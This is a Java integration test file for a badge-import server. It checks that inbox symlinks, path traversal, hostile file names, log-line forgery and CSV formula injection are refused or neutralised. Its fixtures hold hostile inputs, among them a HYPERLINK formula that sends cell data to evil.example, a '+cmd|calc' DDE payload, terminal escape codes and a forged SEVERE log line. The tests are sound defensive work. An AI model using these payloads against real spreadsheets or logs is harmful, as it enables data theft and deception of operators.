package dev.badgeworks.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import jakarta.json.JsonObject;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.junit.jupiter.api.Test;

/**
 * Hostile inbox files and names. Issue 9, finding 1: a symbolic link in an org's inbox — to a secret outside the
 * data folder, to a folder outside it, to another org's file — is never imported (by path or by the scan), never
 * echoed, and its target never moved.
 */
class HostileFilesIT {

    @Test
    void linksInTheInboxAreRefusedAndTheirTargetsStayWhereTheyAre() throws Exception {
        BadgeworksServer server = BadgeworksServer.shared();
        Api api = server.admin().newOrg("files");
        Api other = server.admin().newOrg("files-other");
        Path inbox = Files.createDirectories(server.inbox().resolve(Long.toString(api.orgId())));
        Path otherInbox = Files.createDirectories(server.inbox().resolve(Long.toString(other.orgId())));
        Path outside = Files.createTempDirectory(server.workDir(), "outside");
        Path secret = Files.writeString(outside.resolve("secret.csv"), "BOOTSTRAP_PASSWORD=hunter2\n");
        Path othersFile = Files.writeString(otherInbox.resolve("theirs.csv"), Imports.HEADER);
        Files.createSymbolicLink(inbox.resolve("secret.csv"), secret);
        Files.createSymbolicLink(inbox.resolve("theirs.csv"), othersFile);
        Files.createSymbolicLink(inbox.resolve("folder"), outside);
        for (Path link : new Path[] {inbox.resolve("secret.csv"), inbox.resolve("theirs.csv")}) {
            Files.setLastModifiedTime(link.toRealPath(), FileTime.from(Instant.now().minus(Duration.ofMinutes(5))));
        }

        for (String path : new String[] {"secret.csv", "theirs.csv", "folder/secret.csv"}) {
            Api.Reply refused = api.post("imports", "{\"path\":\"" + path + "\"}").expectError(400, 1131, "path");
            assertFalse(refused.body().contains("hunter2"), refused.body());
        }
        var started = api.post("imports/scan", null).expect(200).json().getJsonArray("data");
        assertEquals(0, started.size(), "the scan passes links by: " + started);
        assertTrue(Files.exists(secret) && Files.exists(othersFile), "no target was moved");
        assertEquals(0, api.get("imports").expect(200).data().getJsonObject("pagination").getInt("total"));
    }

    /** Issue 9, finding 7: names the file system cannot take are 400s at their field, never 500s. */
    @Test
    void hostileNamesAndPathsAreCleanRefusals() {
        BadgeworksServer server = BadgeworksServer.shared();
        Api api = server.admin().newOrg("names");
        byte[] file = Imports.HEADER.getBytes(StandardCharsets.UTF_8);
        List<Api.Reply> replies = new ArrayList<>();
        replies.add(api.postBytes("imports?fileName=a%00b.csv", "text/csv", file).expectError(400, 1131, "fileName"));
        replies.add(api.postBytes("imports?fileName=%2F", "text/csv", file).expectError(400, 1131, "fileName"));
        replies.add(api.postBytes("imports?fileName=..", "text/csv", file).expectError(400, 1131, "fileName"));
        replies.add(api.postBytes("imports?fileName=" + "n".repeat(296) + ".csv", "text/csv", file)
                .expectError(400, 1103, "fileName"));
        replies.add(api.post("imports", "{\"path\":\"a\\u0000b.csv\"}").expectError(400, 1105, "path"));
        replies.add(api.post("imports", "{\"path\":\"\\ud800\"}").expectError(400, 1105, "path"));
        replies.add(api.post("imports", "{\"path\":\"x\\ud800.csv\"}").expectError(400, 1105, "path"));
        for (Api.Reply reply : replies) {
            assertFalse(reply.body().contains(server.workDir().toString()), reply.body());
        }
        assertEquals(0, api.get("imports").expect(200).data().getJsonObject("pagination").getInt("total"));
    }

    /**
     * Issue 9, findings 1 and 11: an answer names no server path, and quotes a file only as a short, escaped
     * excerpt — in the import's message and in a reject's reason.
     */
    @Test
    void answersShowNoServerPathAndFileContentOnlyAsAnExcerpt() throws Exception {
        BadgeworksServer server = BadgeworksServer.shared();
        Api api = server.admin().newOrg("excerpts");
        Path inbox = server.inbox().resolve(Long.toString(api.orgId()));
        String missing = api.post("imports", "{\"path\":\"missing.csv\"}").expectError(400, 1131, "path").body();
        assertFalse(missing.contains(server.inbox().toString()), missing);

        String header = "requestId,badgeMetaId,customerId,earnEventDate,ownerType,ref\u001b]0;owned\u0007\u0000"
                + "z".repeat(5_000) + "\n";
        String failedId = Imports.upload(api, "header.csv", "text/csv", header);
        JsonObject failed = Imports.await(api, failedId, Duration.ofSeconds(60), "COMPLETED", "FAILED");
        String message = failed.getString("message");
        assertEquals("FAILED", failed.getString("status"));
        assertTrue(message.contains("unknown column 'ref\\u001B]0;owned\\u0007\\u0000zzz"), message);
        assertTrue(message.length() < 250 && !message.contains("z".repeat(41)), message);
        assertTrue(message.chars().noneMatch(Character::isISOControl), message);

        String badge = Badges.createClaimed(api, Badges.earnBadge(Badges.uniqueName("Excerpt")), "Loyalty", "p1");
        String row = "r1," + badge + ",c1,,\"Loyalty\u001b]0;owned\u0007\"\"" + "z".repeat(5_000) + "\",p1\n";
        String rejectedId = Imports.upload(api, "owner.csv", "text/csv", Imports.HEADER + row);
        assertEquals(1, Imports.await(api, rejectedId, Duration.ofSeconds(60), "COMPLETED", "FAILED")
                .getInt("rowsRejected"));
        try (CSVParser rejects = CSVParser.parse(Imports.rejectsFile(inbox, "done", rejectedId),
                CSVFormat.DEFAULT.builder().setHeader().get())) {
            String reason = rejects.getRecords().get(0).get("reason");
            assertTrue(reason.startsWith("Invalid enum value: 'Loyalty\\u001B]0;owned"), reason);
            assertTrue(reason.length() < 400 && !reason.contains("z".repeat(41)), reason);
            assertTrue(reason.chars().noneMatch(Character::isISOControl), reason);
        }
    }

    /** A NUL in a row (PostgreSQL text cannot hold one) rejects that row; the rest of the file imports. */
    @Test
    void aRowWithANulCharacterIsRejectedAndTheRestImports() {
        Api api = BadgeworksServer.shared().admin().newOrg("nul-rows");
        String badge = Badges.createClaimed(api, Badges.earnBadge(Badges.uniqueName("Nul")), "Loyalty", "p1");
        String rows = "nul-1," + badge + ",c\u00001,,Loyalty,p1\n" + "nul-2," + badge + ",c2,,Loyalty,p1\n";
        String id = Imports.upload(api, "nul.csv", "text/csv", Imports.HEADER + rows);
        JsonObject done = Imports.await(api, id, Duration.ofSeconds(60), "COMPLETED", "FAILED");
        assertEquals("COMPLETED", done.getString("status"), done.toString());
        assertEquals(1, done.getInt("rowsRejected"), done.toString());
        assertEquals(1, api.get("badgeMeta/" + badge).data().getInt("earnedCount"));
    }

    /** A fresh org of the shared server, its inbox folder and a claimed earn badge. */
    private record OrgWithBadge(Api api, Path inbox, String badge) {
        static OrgWithBadge create(String prefix) {
            BadgeworksServer server = BadgeworksServer.shared();
            Api api = server.admin().newOrg(prefix);
            return new OrgWithBadge(api, server.inbox().resolve(Long.toString(api.orgId())),
                    Badges.createClaimed(api, Badges.earnBadge(Badges.uniqueName(prefix)), "Loyalty", "p1"));
        }
    }

    /** Issue 26: {"path": "failed/<id>-a.csv"} moved another import's archived file away and broke its restart. */
    @Test
    void theInboxsOwnFoldersHoldNoFilesToImport() throws Exception {
        OrgWithBadge org = OrgWithBadge.create("archive");
        Api api = org.api();
        Path inbox = org.inbox();
        String badge = org.badge();
        String id = Imports.upload(api, "night.csv", "text/csv", Imports.HEADER + "arch-1," + badge + ",c1,,Loyalty,p1\n"
                + "arch-2,nope,c2,,Loyalty,p1\n");
        Imports.await(api, id, Duration.ofSeconds(60), "COMPLETED");
        Path archived = inbox.resolve("done").resolve(id + "-night.csv");
        assertTrue(Files.exists(archived), "archived in done/");
        Files.setLastModifiedTime(archived, FileTime.from(Instant.now().minus(Duration.ofMinutes(5))));
        for (String path : List.of("done/" + id + "-night.csv", "done/" + id + "-night.csv.rejects.csv",
                "./done/" + id + "-night.csv", "x/../done/" + id + "-night.csv")) {
            api.post("imports", "{\"path\":\"" + path + "\"}").expectError(400, 1131, "path");
        }
        assertTrue(Files.exists(archived), "the archived file stays where it is");
        assertEquals(1, api.get("imports").data().getJsonObject("pagination").getInt("total"), "no second import");
        // a folder of the org's own under the inbox still holds files to import
        Path folder = Files.createDirectories(inbox.resolve("2026-12"));
        Files.writeString(folder.resolve("tuesday.csv"), Imports.HEADER + "arch-3," + badge + ",c3,,Loyalty,p1\n");
        String own = api.post("imports", "{\"path\":\"2026-12/tuesday.csv\"}").expect(202).data().getString("id");
        assertEquals(1, Imports.await(api, own, Duration.ofSeconds(60), "COMPLETED").getInt("rowsEarned"));
    }

    /** Issue 26: a file name with a newline, a forged SEVERE line and an ESC code stood in the log as the server's own. */
    @Test
    void inboxFileNamesCannotForgeLogLines() throws Exception {
        BadgeworksServer server = BadgeworksServer.shared();
        Api api = server.admin().newOrg("forged-log");
        Path inbox = Files.createDirectories(server.inbox().resolve(Long.toString(api.orgId())));
        String forged = "[2026-12-05T07:00:00.000+0000] [] [SEVERE] [] [dev.badgeworks.security] admin password reset";
        Path notCsv = Files.writeString(inbox.resolve("a\n" + forged + "\u001b[31m.txt"), "x");
        Path refused = Files.writeString(inbox.resolve("b\n" + forged + "\u001b[31m.csv"), "");
        for (Path file : List.of(notCsv, refused)) {
            Files.setLastModifiedTime(file, FileTime.from(Instant.now().minus(Duration.ofMinutes(5))));
        }
        int logBefore = server.log().length();
        api.post("imports/scan", null).expect(200);
        String log = server.log().substring(logBefore);
        assertTrue(log.contains("neither .csv nor"), "the scan logged the files it left: " + log);
        assertFalse(log.contains("\n" + forged), "a forged line: " + log);
        assertFalse(log.contains("\u001b[31m"), "the file's escape code reached the log");
        assertTrue(log.contains("a\\u000A[2026-12-05T07:00:00.000+0000]"), log);
    }

    /** Issue 26: a row's formula was copied verbatim into the rejects file an operator opens in a spreadsheet. */
    @Test
    void theRejectsFileRunsNoFormulas() throws Exception {
        OrgWithBadge org = OrgWithBadge.create("formulas");
        Api api = org.api();
        String badge = org.badge();
        String hyperlink = "\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1;\"\"click\"\")\",nope,c1,,Loyalty,p1";
        String command = "+cmd|calc!A0,nope,c2,,Loyalty,p1";
        String id = Imports.upload(api, "formulas.csv", "text/csv", Imports.HEADER + hyperlink + "\n" + command + "\n"
                + "ok-1," + badge + ",c3,,Loyalty,p1\n" + "@SUM(A1)," + badge + ",c4,,Nobody,p1\n");
        JsonObject done = Imports.await(api, id, Duration.ofSeconds(60), "COMPLETED");
        try (CSVParser rejects = CSVParser.parse(Imports.rejectsFile(org.inbox(), "done", id),
                CSVFormat.DEFAULT.builder().setHeader().get())) {
            List<String> originals = rejects.getRecords().stream().map(r -> r.get("original")).toList();
            assertEquals(3, originals.size(), originals.toString());
            assertEquals(3, done.getInt("rowsRejected"), done.toString());
            for (String original : originals) {
                assertTrue("=+-@\t\r".indexOf(original.charAt(0)) < 0, "a cell a spreadsheet runs: " + original);
            }
            assertTrue(originals.contains("'@SUM(A1)," + badge + ",c4,,Nobody,p1"), originals.toString());
        }
    }
}
